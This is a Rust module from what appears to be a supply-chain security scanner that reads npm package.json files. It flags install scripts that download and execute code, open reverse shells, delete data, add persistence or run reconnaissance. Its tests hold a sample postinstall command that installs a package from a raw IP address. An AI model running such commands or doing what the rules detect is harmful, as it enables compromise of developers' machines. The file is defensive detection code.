//! npm manifests: package.json.
//!
//! Reads the `package.json` at the tree root or under the single top-level
//! folder (`package/` in registry tarballs), fills [`Metadata`](sluice_model::Metadata), decides
//! file roles (lifecycle-script targets → install, `main`/`exports` →
//! import, `bin` → entry) and reports `PKG35x` findings:
//!
//! | code | name | severity |
//! | --- | --- | --- |
//! | PKG350 | npm-lifecycle-script | info |
//! | PKG351 | npm-script-download-exec | critical |
//! | PKG352 | npm-script-network-tool | medium |
//! | PKG353 | npm-script-persistence | high |
//! | PKG354 | npm-script-destruction | critical |
//! | PKG355 | npm-script-reverse-shell | critical |
//! | PKG356 | npm-script-recon | medium |
//! | PKG357 | npm-url-dependency | low–high |
//! | PKG358 | npm-bin-shadows-command | medium |
//! | PKG359 | npm-malformed-manifest | low |
//!
//! (`PKG301`–`PKG349` are left to the PyPI manifests.) An install script
//! line that installs a named package (`npm install x@https://…`) is also
//! reported as JS212 `runtime-install`, as if package code ran it.

use serde_json::Value;
use sluice_archive::FileTree;
use sluice_model::{Confidence, Ecosystem, Finding, RuleCode, Severity};

use super::Manifest;
use crate::FileRole;
use crate::javascript::shell;

/// Lifecycle scripts npm runs when the package is installed from the
/// registry.
const INSTALL_SCRIPTS: [&str; 3] = ["preinstall", "install", "postinstall"];

/// Lifecycle scripts recorded as hooks (`prepare` runs for git and local
/// installs; the uninstall ones ran on npm 6 and older).
const HOOK_SCRIPTS: [&str; 10] = [
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
    "preuninstall",
    "uninstall",
    "postuninstall",
];

/// Commands a `bin` entry must not quietly replace.
const SYSTEM_COMMANDS: [&str; 52] = [
    "ls", "cd", "cp", "mv", "rm", "cat", "sudo", "su", "sh", "bash", "zsh", "dash", "node", "npm",
    "npx", "yarn", "pnpm", "corepack", "git", "curl", "wget", "ssh", "scp", "python", "python3",
    "pip", "pip3", "make", "gcc", "cc", "ld", "tar", "gzip", "chmod", "chown", "kill", "ps",
    "grep", "find", "sed", "awk", "env", "which", "whoami", "id", "docker", "kubectl", "java",
    "go", "cargo", "openssl", "gpg",
];

/// Read the package.json at the root of a tree, if there is one.
#[must_use]
pub fn read(tree: &FileTree) -> Option<Manifest> {
    let prefix = root_prefix(tree)?;
    let path = format!("{prefix}package.json");
    let entry = tree.get(&path)?;
    let mut m = Manifest {
        ecosystem: Some(Ecosystem::Npm),
        ..Manifest::default()
    };
    let value: Value = match serde_json::from_slice(&entry.data) {
        Ok(Value::Object(o)) => Value::Object(o),
        Ok(_) => {
            m.findings
                .push(malformed(&path, "the top-level value is not an object"));
            return Some(m);
        }
        Err(e) => {
            m.findings.push(malformed(&path, &e.to_string()));
            return Some(m);
        }
    };
    let pkg = Pkg {
        v: &value,
        tree,
        prefix: &prefix,
        path: &path,
        src: String::from_utf8_lossy(&entry.data).into_owned(),
    };
    pkg.metadata(&mut m);
    pkg.scripts(&mut m);
    pkg.dependencies(&mut m);
    pkg.roles(&mut m);
    Some(m)
}

/// `""` when package.json sits at the root, `"package/"` when every file is
/// under one top folder that holds it.
fn root_prefix(tree: &FileTree) -> Option<String> {
    if tree.get("package.json").is_some() {
        return Some(String::new());
    }
    let first = tree.files.first()?;
    let (top, _) = first.path.split_once('/')?;
    let prefix = format!("{top}/");
    if !tree.files.iter().all(|f| f.path.starts_with(&prefix)) {
        return None;
    }
    tree.get(&format!("{prefix}package.json"))?;
    Some(prefix)
}

fn malformed(path: &str, why: &str) -> Finding {
    Finding::new(
        RuleCode::new("PKG359"),
        "npm-malformed-manifest",
        Severity::Low,
        Confidence::High,
        "package.json cannot be read; npm would refuse or misread it",
    )
    .at(path, 0, 0)
    .evidence(why.chars().take(200).collect::<String>())
}

struct Pkg<'a> {
    v: &'a Value,
    tree: &'a FileTree,
    prefix: &'a str,
    path: &'a str,
    src: String,
}

fn s(v: &Value) -> Option<String> {
    v.as_str().map(|x| x.chars().take(4096).collect())
}

/// `"Name <mail> (url)"` → (name, mail).
fn parse_person(p: &str) -> (Option<String>, Option<String>) {
    let email = p
        .split_once('<')
        .and_then(|(_, r)| r.split_once('>'))
        .map(|(e, _)| e.trim().to_owned())
        .filter(|e| !e.is_empty());
    let name = p
        .split(['<', '('])
        .next()
        .map(|n| n.trim().to_owned())
        .filter(|n| !n.is_empty());
    (name, email)
}

impl Pkg<'_> {
    fn get(&self, k: &str) -> Option<&Value> {
        self.v.get(k)
    }

    /// The 1-based line where `"key"` first appears in package.json.
    fn line_of(&self, needle: &str) -> u32 {
        let q = format!("\"{needle}\"");
        self.src
            .find(&q)
            .map_or(0, |i| self.src[..i].matches('\n').count() as u32 + 1)
    }

    fn finding(
        &self,
        code: &'static str,
        name: &str,
        sev: Severity,
        conf: Confidence,
        msg: impl Into<String>,
        key: &str,
    ) -> Finding {
        Finding::new(RuleCode::new(code), name, sev, conf, msg)
            .at(self.path, self.line_of(key), 0)
            .install_time(true)
    }

    fn metadata(&self, m: &mut Manifest) {
        let md = &mut m.metadata;
        md.name = self.get("name").and_then(s);
        md.version = self.get("version").and_then(s);
        md.summary = self.get("description").and_then(s);
        md.homepage = self.get("homepage").and_then(s);
        match self.get("author") {
            Some(Value::String(a)) => {
                let (n, e) = parse_person(a);
                md.author = n;
                md.author_email = e;
            }
            Some(Value::Object(o)) => {
                md.author = o.get("name").and_then(s);
                md.author_email = o.get("email").and_then(s);
            }
            _ => {}
        }
        md.repository = match self.get("repository") {
            Some(Value::String(r)) => Some(r.clone()),
            Some(Value::Object(o)) => o.get("url").and_then(s),
            _ => None,
        };
        md.license = match self.get("license") {
            Some(Value::String(l)) => Some(l.clone()),
            Some(Value::Object(o)) => o.get("type").and_then(s),
            _ => None,
        };
        if let Some(Value::Object(deps)) = self.get("dependencies") {
            md.dependencies = deps
                .iter()
                .take(10_000)
                .map(|(k, v)| format!("{k}@{}", v.as_str().unwrap_or("*")))
                .collect();
        }
    }

    fn scripts(&self, m: &mut Manifest) {
        let Some(Value::Object(scripts)) = self.get("scripts") else {
            return;
        };
        for name in HOOK_SCRIPTS {
            let Some(cmd) = scripts.get(name).and_then(Value::as_str) else {
                continue;
            };
            m.metadata
                .install_hooks
                .insert(name.to_owned(), cmd.to_owned());
            let installs = INSTALL_SCRIPTS.contains(&name);
            m.findings.push(
                self.finding(
                    "PKG350",
                    "npm-lifecycle-script",
                    Severity::Info,
                    Confidence::High,
                    format!("package.json declares a `{name}` script"),
                    name,
                )
                .excerpt(cmd)
                .install_time(installs),
            );
            let facts = shell::classify(cmd);
            let mut add = |code: &'static str,
                           rule: &str,
                           sev: Severity,
                           msg: &str,
                           what: &Option<String>| {
                if let Some(w) = what {
                    m.findings.push(
                        self.finding(
                            code,
                            rule,
                            sev,
                            Confidence::High,
                            format!("the `{name}` script {msg}"),
                            name,
                        )
                        .excerpt(cmd)
                        .evidence(format!("matched: {w}"))
                        .install_time(installs),
                    );
                }
            };
            let dl = facts.download_exec.clone().or(facts.node_eval.clone());
            add(
                "PKG351",
                "npm-script-download-exec",
                Severity::Critical,
                "downloads or decodes code and runs it",
                &dl,
            );
            add(
                "PKG355",
                "npm-script-reverse-shell",
                Severity::Critical,
                "opens a reverse shell",
                &facts.reverse_shell,
            );
            add(
                "PKG354",
                "npm-script-destruction",
                Severity::Critical,
                "deletes the home or root folder",
                &facts.destroy,
            );
            add(
                "PKG353",
                "npm-script-persistence",
                Severity::High,
                "installs a start-up hook (shell rc file, cron, Run key)",
                &facts.persist,
            );
            if dl.is_none() && facts.reverse_shell.is_none() {
                add(
                    "PKG352",
                    "npm-script-network-tool",
                    Severity::Medium,
                    "runs a network tool",
                    &facts.net_tool,
                );
            }
            add(
                "PKG356",
                "npm-script-recon",
                Severity::Medium,
                "runs host reconnaissance commands",
                &facts.recon,
            );
            // `"postinstall": "npm install x@https://…"`: JS212 runtime-install
            // in the script line itself.
            if installs && let Some(inst) = crate::javascript::js212_runtime_install::installer(cmd)
            {
                let remote = inst.remote.is_some();
                let mut fi = self
                    .finding(
                        "JS212",
                        "runtime-install",
                        if remote {
                            Severity::Critical
                        } else {
                            Severity::High
                        },
                        if remote {
                            Confidence::High
                        } else {
                            Confidence::Medium
                        },
                        format!("the `{name}` script runs `{} install` itself", inst.tool),
                        name,
                    )
                    .excerpt(cmd)
                    .evidence(format!("installs: {}", inst.packages.join(" ")));
                if let Some(r) = &inst.remote {
                    fi = fi.evidence(format!("from outside the registry: {r}"));
                }
                m.findings.push(fi);
            }
            // `node -e "<code>"`: judge the inline code with the JavaScript
            // rules, as a file run at install time.
            for code in inline_node_code(cmd) {
                let file = crate::SourceFile {
                    path: self.path,
                    text: &code,
                    role: if installs {
                        FileRole::Install
                    } else {
                        FileRole::Entry
                    },
                };
                let line = self.line_of(name);
                for mut f in crate::javascript::check(&file) {
                    f.evidence
                        .insert(0, format!("inline code of the `{name}` script"));
                    f.line = (line > 0).then_some(line);
                    f.column = None;
                    m.findings.push(f);
                }
            }
        }
    }

    fn dependencies(&self, m: &mut Manifest) {
        for group in ["dependencies", "optionalDependencies"] {
            let Some(Value::Object(deps)) = self.get(group) else {
                continue;
            };
            for (dep, spec) in deps.iter().take(10_000) {
                let Some(spec) = spec.as_str() else { continue };
                let Some((sev, kind)) = classify_spec(spec) else {
                    continue;
                };
                m.findings.push(
                    self.finding(
                        "PKG357",
                        "npm-url-dependency",
                        sev,
                        Confidence::Medium,
                        format!("dependency `{dep}` is fetched from {kind}, not from the registry"),
                        dep,
                    )
                    .excerpt(&format!("\"{dep}\": \"{spec}\"")),
                );
            }
        }
    }

    fn roles(&self, m: &mut Manifest) {
        // Files run by install scripts.
        if let Some(Value::Object(scripts)) = self.get("scripts") {
            for name in INSTALL_SCRIPTS {
                if let Some(cmd) = scripts.get(name).and_then(Value::as_str) {
                    for target in script_targets(cmd) {
                        if let Some(p) = self.resolve(&target) {
                            m.roles.insert(p, FileRole::Install);
                        }
                    }
                }
            }
        }
        // `main` (default index.js) and `exports["."]` run on require.
        let mut imports: Vec<String> = Vec::new();
        imports.push(
            self.get("main")
                .and_then(Value::as_str)
                .unwrap_or("index.js")
                .to_owned(),
        );
        match self.get("exports") {
            Some(Value::String(e)) => imports.push(e.clone()),
            Some(Value::Object(o)) => {
                let dot = o.get(".").unwrap_or(&Value::Null);
                collect_export_targets(dot, &mut imports, 0);
                if !o.keys().any(|k| k.starts_with('.')) {
                    collect_export_targets(
                        self.get("exports").unwrap_or(&Value::Null),
                        &mut imports,
                        0,
                    );
                }
            }
            _ => {}
        }
        for t in imports {
            if let Some(p) = self.resolve(&t) {
                m.roles.entry(p).or_insert(FileRole::Import);
            }
        }
        // `bin` commands.
        let unscoped = m
            .metadata
            .name
            .as_deref()
            .map(|n| n.rsplit('/').next().unwrap_or(n).to_owned())
            .unwrap_or_default();
        let bins: Vec<(String, String)> = match self.get("bin") {
            Some(Value::String(t)) => vec![(unscoped.clone(), t.clone())],
            Some(Value::Object(o)) => o
                .iter()
                .take(1000)
                .filter_map(|(k, v)| v.as_str().map(|t| (k.clone(), t.to_owned())))
                .collect(),
            _ => Vec::new(),
        };
        for (name, target) in bins {
            m.metadata
                .entry_points
                .insert(format!("bin:{name}"), target.clone());
            if let Some(p) = self.resolve(&target) {
                m.roles.entry(p).or_insert(FileRole::Entry);
            }
            let base = name
                .rsplit('/')
                .next()
                .unwrap_or(&name)
                .to_ascii_lowercase();
            if base != unscoped.to_ascii_lowercase() && SYSTEM_COMMANDS.contains(&base.as_str()) {
                m.findings.push(
                    self.finding(
                        "PKG358",
                        "npm-bin-shadows-command",
                        Severity::Medium,
                        Confidence::Medium,
                        format!("`bin` installs a command named `{base}`, shadowing a common system command"),
                        "bin",
                    )
                    .evidence(format!("{name} → {target}"))
                    .install_time(false),
                );
            }
        }
    }

    /// A script or manifest path → a file in the tree.
    fn resolve(&self, rel: &str) -> Option<String> {
        let rel = rel.trim().trim_matches(['"', '\'']);
        let base = format!("{}{}", self.prefix, crate::source::join_path("", rel)?);
        [
            base.clone(),
            format!("{base}.js"),
            format!("{base}.cjs"),
            format!("{base}.mjs"),
            format!("{base}/index.js"),
        ]
        .into_iter()
        .find(|cand| self.tree.get(cand).is_some())
    }
}

fn collect_export_targets(v: &Value, out: &mut Vec<String>, depth: usize) {
    if depth > 4 || out.len() > 16 {
        return;
    }
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Object(o) => {
            for (k, x) in o {
                if matches!(k.as_str(), "require" | "import" | "default" | "node") {
                    collect_export_targets(x, out, depth + 1);
                }
            }
        }
        Value::Array(a) => {
            for x in a.iter().take(4) {
                collect_export_targets(x, out, depth + 1);
            }
        }
        _ => {}
    }
}

/// A dependency spec that bypasses the registry: severity and a phrase.
fn classify_spec(spec: &str) -> Option<(Severity, &'static str)> {
    let s = spec.trim().to_ascii_lowercase();
    if let Some(rest) = s
        .strip_prefix("http://")
        .or_else(|| s.strip_prefix("https://"))
    {
        let host = rest.split(['/', '?', '#']).next().unwrap_or("");
        let host = host.rsplit('@').next().unwrap_or(host);
        let host = host.split(':').next().unwrap_or(host);
        if host.parse::<std::net::Ipv4Addr>().is_ok() {
            return Some((Severity::High, "a URL on a raw IP address"));
        }
        return Some((Severity::Medium, "an arbitrary URL"));
    }
    if s.starts_with("git+")
        || s.starts_with("git://")
        || s.starts_with("git@")
        || s.starts_with("github:")
        || s.starts_with("gitlab:")
        || s.starts_with("bitbucket:")
        || s.starts_with("gist:")
    {
        return Some((Severity::Low, "a git repository"));
    }
    // `user/repo` and `user/repo#ref` are GitHub shorthands.
    let head = s.split('#').next().unwrap_or(&s);
    if let Some((u, r)) = head.split_once('/') {
        let ok = |x: &str| {
            !x.is_empty()
                && x.chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        };
        if ok(u)
            && ok(r)
            && !u.starts_with('.')
            && !head.starts_with("file:")
            && !head.starts_with("npm:")
        {
            return Some((Severity::Low, "a GitHub repository"));
        }
    }
    None
}

/// The code of `node -e '…'` / `node --eval "…"` / `node -p …` in a
/// command line (one layer of shell quoting removed).
#[must_use]
pub fn inline_node_code(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = cmd;
    while let Some(i) = rest.find("node") {
        let after = &rest[i + 4..];
        let after = after.strip_prefix(".exe").unwrap_or(after);
        rest = after;
        if !after.starts_with([' ', '\t']) {
            continue;
        }
        let t = after.trim_start();
        let Some(t) = ["-e ", "--eval ", "-p ", "--print ", "--eval=", "-pe "]
            .iter()
            .find_map(|f| t.strip_prefix(f))
        else {
            continue;
        };
        let t = t.trim_start();
        let code = match t.chars().next() {
            Some(q @ ('"' | '\'')) => {
                let body = &t[1..];
                let end = body.rfind(q).unwrap_or(body.len());
                let c = &body[..end];
                if q == '"' {
                    c.replace("\\\"", "\"")
                } else {
                    c.to_owned()
                }
            }
            _ => t.split(['&', ';', '|']).next().unwrap_or("").to_owned(),
        };
        if !code.trim().is_empty() {
            out.push(code);
        }
        if out.len() >= 4 {
            break;
        }
    }
    out
}

/// Files a script command runs with `node` (or a shell), relative paths
/// as written.
#[must_use]
pub fn script_targets(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for seg in cmd.split(['&', '|', ';']) {
        let toks: Vec<&str> = seg.split_whitespace().collect();
        let mut i = 0;
        // Environment assignments and wrappers before the command.
        while i < toks.len()
            && (toks[i].contains('=') && !toks[i].starts_with('-')
                || matches!(toks[i], "cross-env" | "npx" | "exec" | "env"))
        {
            i += 1;
        }
        let Some(&cmd0) = toks.get(i) else { continue };
        let base = cmd0
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(cmd0)
            .trim_matches(['"', '\'']);
        if matches!(base, "node" | "node.exe" | "nodejs" | "sh" | "bash" | "zsh") {
            i += 1;
            while let Some(&t) = toks.get(i) {
                if matches!(t, "-r" | "--require" | "--import" | "--loader") {
                    i += 2;
                } else if matches!(t, "-e" | "--eval" | "-p" | "--print" | "-c") {
                    i = toks.len();
                } else if t.starts_with('-') {
                    i += 1;
                } else {
                    break;
                }
            }
            if let Some(t) = toks.get(i) {
                out.push((*t).to_owned());
            }
        } else if base.ends_with(".js")
            || base.ends_with(".cjs")
            || base.ends_with(".mjs")
            || base.ends_with(".sh")
        {
            out.push(cmd0.to_owned());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn targets() {
        assert_eq!(
            script_targets("node ./scripts/install.js"),
            vec!["./scripts/install.js"]
        );
        assert_eq!(
            script_targets("FOO=1 node -r esm x && node-gyp rebuild"),
            vec!["x"]
        );
        assert_eq!(
            script_targets("node -e \"require('./a')\""),
            Vec::<String>::new()
        );
        assert_eq!(script_targets("sh install.sh || true"), vec!["install.sh"]);
        assert_eq!(script_targets("./postinstall.js"), vec!["./postinstall.js"]);
    }

    #[test]
    fn lifecycle_runtime_install() {
        let tree = |cmd: &str| FileTree {
            kind: sluice_archive::ArtifactKind::NpmTarball,
            filename: "x.tgz".into(),
            sha256: None,
            size: 0,
            files: vec![sluice_archive::FileEntry {
                path: "package/package.json".into(),
                data: format!(
                    r#"{{"name":"x","version":"1.0.0","scripts":{{"postinstall":"{cmd}"}}}}"#
                )
                .into_bytes(),
                mode: None,
                truncated: false,
            }],
            anomalies: Vec::new(),
        };
        let js212 = |cmd: &str| {
            read(&tree(cmd))
                .unwrap()
                .findings
                .into_iter()
                .find(|f| f.rule.as_str() == "JS212")
                .map(|f| f.severity)
        };
        assert_eq!(
            js212("npm install --no-save https://203.0.113.5/p.tgz"),
            Some(Severity::Critical)
        );
        assert_eq!(js212("npm i left-pad-utils"), Some(Severity::High));
        assert_eq!(js212("npm install && node-gyp rebuild"), None);
        assert_eq!(js212("node setup.js"), None);
    }

    #[test]
    fn inline_code() {
        assert_eq!(
            inline_node_code(r#"node -e "require('x').y(\"z\")" && echo"#),
            vec![r#"require('x').y("z")"#]
        );
        assert_eq!(
            inline_node_code("node -e 'console.log(1)'"),
            vec!["console.log(1)"]
        );
        assert!(inline_node_code("node index.js").is_empty());
        assert!(inline_node_code("node-gyp rebuild").is_empty());
    }

    #[test]
    fn specs() {
        assert_eq!(classify_spec("^1.2.3"), None);
        assert_eq!(classify_spec("npm:other@1"), None);
        assert_eq!(
            classify_spec("https://192.0.2.1/x.tgz").map(|x| x.0),
            Some(Severity::High)
        );
        assert_eq!(
            classify_spec("https://example.com/x.tgz").map(|x| x.0),
            Some(Severity::Medium)
        );
        assert_eq!(
            classify_spec("user/repo#v1").map(|x| x.0),
            Some(Severity::Low)
        );
        assert_eq!(classify_spec("file:../x"), None);
        assert_eq!(classify_spec(">= 1.0.0 < 2"), None);
    }
}
